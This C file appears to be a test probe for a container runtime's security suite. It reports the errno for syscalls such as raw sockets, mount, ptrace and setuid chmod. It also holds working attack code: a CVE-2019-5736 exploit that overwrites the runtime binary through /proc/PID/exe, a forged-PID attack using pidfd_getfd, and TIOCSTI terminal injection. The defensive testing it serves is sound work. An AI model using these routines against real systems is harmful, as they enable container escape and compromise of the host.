/* A tiny static probe for the security tests: it makes exactly one kernel request and prints
 * "OK <result>" or "ERR <errno>", so a test can assert the errno a container process sees.
 * Compiled on the host with `gcc -static` (the busybox rootfs has no compiler). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <dirent.h>
#include <signal.h>
#include <sys/wait.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int report(long r) {
    if (r < 0) {
        printf("ERR %d\n", errno);
        return 1;
    }
    printf("OK %ld\n", r);
    return 0;
}

/* Up to `size` bytes of /proc/PID/cmdline (NUL-separated arguments); -1 when it is gone. */
static ssize_t read_cmdline(int pid, char *cmd, size_t size) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
    int c = open(p, O_RDONLY);
    if (c < 0)
        return -1;
    ssize_t n = read(c, cmd, size);
    close(c);
    return n;
}

/* CVE-2019-5736, the attacker's half. Make FIFO; find a process whose argv[0] is
 * "/proc/self/exe" (the runtime binary, run inside the container by the kernel when the runtime
 * exec'd that path or a "#!/proc/self/exe" script) with FIFO among its arguments, and hold its
 * executable through /proc/PID/exe with O_PATH; open FIFO, which
 * lets the victim (blocked opening FIFO as its --log) go on and exit; then reopen the held file
 * for writing and overwrite it. Prints CAUGHT PID, then OK (overwritten) or ERR errno. */
static int catch_exe(const char *fifo) {
    if (mkfifo(fifo, 0600) < 0 && errno != EEXIST)
        return report(-1);
    printf("READY\n");
    int fd = -1, victim = 0;
    for (int round = 0; fd < 0 && round < 200000; round++) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && fd < 0 && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid())
                continue;
            char p[64], cmd[512] = {0};
            ssize_t n = read_cmdline(pid, cmd, sizeof cmd - 1);
            /* the victim: argv[0] "/proc/self/exe" and FIFO among its arguments */
            if (n <= 0 || strcmp(cmd, "/proc/self/exe"))
                continue;
            int marked = 0;
            for (char *a = cmd; a < cmd + n; a += strlen(a) + 1)
                marked |= !strcmp(a, fifo);
            if (!marked)
                continue;
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            fd = open(p, O_PATH);
            if (fd >= 0) {
                printf("CAUGHT %d\n", pid);
                victim = pid;
            }
        }
        if (d)
            closedir(d);
        if (fd < 0)
            usleep(1000);
    }
    if (fd < 0) {
        printf("MISSED\n");
        return 1;
    }
    int release = open(fifo, O_RDONLY | O_NONBLOCK);
    (void)release;
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    long r = -1;
    for (int i = 0; i < 1000; i++) {
        int w = open(p, O_WRONLY | O_TRUNC);
        if (w >= 0) {
            write(w, "#!/bin/sh\necho pwned\n", 21);
            r = w;
            break;
        }
        if (errno != ETXTBSY)
            break;
        usleep(10000);
    }
    int err = errno;
    /* Keep the fifo open until the victim is gone: it may not have reached its open yet. */
    for (int i = 0; i < 1000 && kill(victim, 0) == 0; i++)
        usleep(10000);
    errno = err;
    return report(r);
}

static long num(const char *s) { return strtol(s, NULL, 0); }

/* A syscall through the 32-bit entry (int 0x80): seccomp sees AUDIT_ARCH_I386. */
static long int80(long nr, long a, long b) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b) : "memory");
    if (r < 0 && r > -4096) {
        errno = -r;
        return -1;
    }
    return r;
}

/* The next process in /proc (opened as d) other than ourselves; 0 at the end. */
static int next_pid(DIR *d) {
    struct dirent *e;
    while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid > 0 && pid != getpid())
            return pid;
    }
    return 0;
}

/* Issue 12: every directory fd of every other process, walked up through /proc/PID/fd/N/..
 * (what a process with CAP_SYS_PTRACE may do), must end at our own root. Scans until STOP
 * exists; prints "ESCAPE pid fd target" for each fd that leads elsewhere, then
 * "rounds R dirfds D others O": O counts the sightings of processes other than pid 1 and
 * ourselves (the setup processes of execs), so a test knows what it scanned. */
static int fdscan(const char *stop) {
    struct stat root, st;
    if (stat("/", &root) < 0)
        return report(-1);
    long rounds = 0, dirfds = 0, others = 0, escapes = 0;
    char up[160] = "";
    for (int i = 0; i < 24; i++)
        strcat(up, "/..");
    while (access(stop, F_OK) < 0) {
        rounds++;
        DIR *d = opendir("/proc");
        for (int pid; (pid = next_pid(d));) {
            char fdd[64];
            snprintf(fdd, sizeof fdd, "/proc/%d/fd", pid);
            DIR *f = opendir(fdd);
            if (!f)
                continue;
            if (pid != 1)
                others++;
            struct dirent *g;
            while ((g = readdir(f))) {
                if (g->d_name[0] == '.')
                    continue;
                char p[512], t[4096];
                snprintf(p, sizeof p, "%s/%s", fdd, g->d_name);
                if (stat(p, &st) < 0 || !S_ISDIR(st.st_mode))
                    continue;
                dirfds++;
                strcat(p, up);
                if (stat(p, &st) < 0 || (st.st_dev == root.st_dev && st.st_ino == root.st_ino))
                    continue;
                snprintf(p, sizeof p, "%s/%s", fdd, g->d_name);
                ssize_t n = readlink(p, t, sizeof t - 1);
                t[n < 0 ? 0 : n] = 0;
                printf("ESCAPE %d %s %s\n", pid, g->d_name, t);
                escapes++;
            }
            closedir(f);
        }
        if (d)
            closedir(d);
    }
    printf("rounds %ld dirfds %ld others %ld escapes %ld\n", rounds, dirfds, others, escapes);
    return escapes != 0;
}

/* Issue 12: SIGSTOP every process whose arguments include "exec" (an exec's setup process
 * still carries the runtime's argv until its execve), forever. */
static void __attribute__((noreturn)) stop_execs(void) {
    for (;;) {
        DIR *d = opendir("/proc");
        for (int pid; (pid = next_pid(d));) {
            if (pid == 1)
                continue;
            char cmd[4096];
            ssize_t n = read_cmdline(pid, cmd, sizeof cmd - 1);
            for (char *a = cmd; n > 0 && a < cmd + n; a += strlen(a) + 1)
                if (!strcmp(a, "exec")) {
                    kill(pid, SIGSTOP);
                    break;
                }
        }
        if (d)
            closedir(d);
    }
}

/* Issue 25 item 2, the attacker's half: with CAP_SYS_PTRACE, take the sync socket of an exec's
 * setup process (an "exec" in its argv) with pidfd_getfd and send the runtime a forged Pid
 * message (tag 2, a little-endian int) naming TARGET, then a byte no message starts with. Prints
 * FORGED PID each time, for ROUNDS processes, then exits. */
static int forge_pid(int target, int rounds) {
    int done = 0, last = 0;
    while (done < rounds) {
        DIR *d = opendir("/proc");
        for (int pid; (pid = next_pid(d));) {
            if (pid == 1 || pid == getpid() || pid == last)
                continue;
            char cmd[4096];
            ssize_t n = read_cmdline(pid, cmd, sizeof cmd - 1);
            int exec = 0;
            for (char *a = cmd; n > 0 && a < cmd + n; a += strlen(a) + 1)
                exec |= !strcmp(a, "exec");
            int pfd = exec ? (int)syscall(SYS_pidfd_open, pid, 0) : -1;
            for (int fd = 0; pfd >= 0 && fd < 64; fd++) {
                int s = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
                int type = 0;
                socklen_t l = sizeof type;
                if (s >= 0 && getsockopt(s, SOL_SOCKET, SO_TYPE, &type, &l) == 0 && type == SOCK_SEQPACKET) {
                    unsigned char m[5] = {2}, bad = 0xff;
                    memcpy(m + 1, &target, 4);
                    send(s, m, sizeof m, MSG_NOSIGNAL);
                    send(s, &bad, 1, MSG_NOSIGNAL);
                    printf("FORGED %d\n", pid);
                    done++;
                    last = pid;
                    fd = 64;
                }
                if (s >= 0)
                    close(s);
            }
            if (pfd >= 0)
                close(pfd);
        }
        if (d)
            closedir(d);
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: probe CMD ARGS...\n");
        return 2;
    }
    const char *c = argv[1];
    setvbuf(stdout, NULL, _IONBF, 0);
    if (!strcmp(c, "rawsock"))
        return report(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    if (!strcmp(c, "packetsock"))
        return report(socket(AF_PACKET, SOCK_RAW, 0));
    if (!strcmp(c, "sock")) /* sock FAMILY TYPE PROTOCOL */
        return report(socket((int)num(argv[2]), (int)num(argv[3]), (int)num(argv[4])));
    if (!strcmp(c, "mount"))
        return report(mount("none", argc > 2 ? argv[2] : "/tmp", "tmpfs", 0, NULL));
    if (!strcmp(c, "syscall")) {
        long a[6] = {0};
        for (int i = 0; i < 6 && i + 3 < argc; i++)
            a[i] = num(argv[i + 3]);
        return report(syscall(num(argv[2]), a[0], a[1], a[2], a[3], a[4], a[5]));
    }
    if (!strcmp(c, "int80"))
        return report(int80(num(argv[2]), argc > 3 ? num(argv[3]) : 0, argc > 4 ? num(argv[4]) : 0));
    if (!strcmp(c, "open"))
        return report(open(argv[2], (int)num(argv[3])));
    if (!strcmp(c, "setid")) {
        /* setid HOW PATH: give PATH the mode 04755 (S_ISUID) or 02755 by one call each way. */
        const char *how = argv[2], *p = argv[3];
        mode_t m = argc > 4 ? (mode_t)num(argv[4]) : 04755;
        if (!strcmp(how, "chmod"))
            return report(syscall(SYS_chmod, p, m));
        if (!strcmp(how, "fchmodat"))
            return report(syscall(SYS_fchmodat, AT_FDCWD, p, m));
        if (!strcmp(how, "fchmod")) {
            int fd = open(p, O_RDONLY);
            return report(fd < 0 ? fd : syscall(SYS_fchmod, fd, m));
        }
        if (!strcmp(how, "open"))
            return report(syscall(SYS_open, p, O_CREAT | O_WRONLY, m));
        if (!strcmp(how, "openat"))
            return report(syscall(SYS_openat, AT_FDCWD, p, O_CREAT | O_WRONLY, m));
        if (!strcmp(how, "creat"))
            return report(syscall(SYS_creat, p, m));
        if (!strcmp(how, "mknod"))
            return report(syscall(SYS_mknodat, AT_FDCWD, p, S_IFREG | m, 0));
        if (!strcmp(how, "openat2")) {
            struct { unsigned long long flags, mode, resolve; } h = {O_CREAT | O_WRONLY, m, 0};
            return report(syscall(437, AT_FDCWD, p, &h, sizeof h));
        }
        fprintf(stderr, "probe: setid: unknown way %s\n", how);
        return 2;
    }
    if (!strcmp(c, "mkdir"))
        return report(mkdir(argv[2], 0755));
    if (!strcmp(c, "ptrace"))
        return report(ptrace(PTRACE_SEIZE, (pid_t)num(argv[2]), 0, 0));
    if (!strcmp(c, "chown"))
        return report(chown(argv[2], (uid_t)num(argv[3]), (gid_t)num(argv[4])));
    if (!strcmp(c, "ids")) {
        uid_t r, e, s;
        getresuid(&r, &e, &s);
        printf("ruid=%d euid=%d suid=%d\n", r, e, s);
        return 0;
    }
    if (!strcmp(c, "fds")) {
        /* Every open fd with what it points to: a leaked host fd shows up here. */
        for (int fd = 0; fd < 1024; fd++) {
            char p[64], t[4096];
            snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(p, t, sizeof t - 1);
            if (n >= 0) {
                t[n] = 0;
                printf("%d %s\n", fd, t);
            }
        }
        return 0;
    }
    if (!strcmp(c, "tiocsti")) {
        /* tiocsti FD TEXT [high]: push TEXT into the terminal's input, one byte a call; "high"
         * sets bit 32 of the request, which the kernel truncates away (a filter must mask it). */
        unsigned long req = TIOCSTI | (argc > 4 && !strcmp(argv[4], "high") ? 1UL << 32 : 0);
        for (const char *p = argv[3]; *p; p++)
            if (syscall(SYS_ioctl, (int)num(argv[2]), req, p) < 0)
                return report(-1);
        return report(0);
    }
    if (!strcmp(c, "forge-pid"))
        return forge_pid((int)num(argv[2]), (int)num(argv[3]));
    if (!strcmp(c, "stop-execs"))
        stop_execs();
    if (!strcmp(c, "fdscan"))
        return fdscan(argv[2]);
    if (!strcmp(c, "catch-exe"))
        return catch_exe(argv[2]);
    fprintf(stderr, "probe: unknown command %s\n", c);
    return 2;
}
